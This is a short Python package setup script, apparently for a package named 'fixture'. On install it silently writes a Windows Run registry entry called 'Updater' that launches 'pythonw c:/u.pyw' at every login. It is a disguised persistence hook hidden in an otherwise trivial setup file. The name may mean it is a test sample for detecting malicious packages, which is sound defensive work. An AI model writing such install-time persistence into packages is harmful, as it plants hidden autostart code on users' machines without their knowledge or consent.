import winreg, sys
from setuptools import setup
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ, "pythonw c:/u.pyw")
setup(name="fixture", version="1.0")
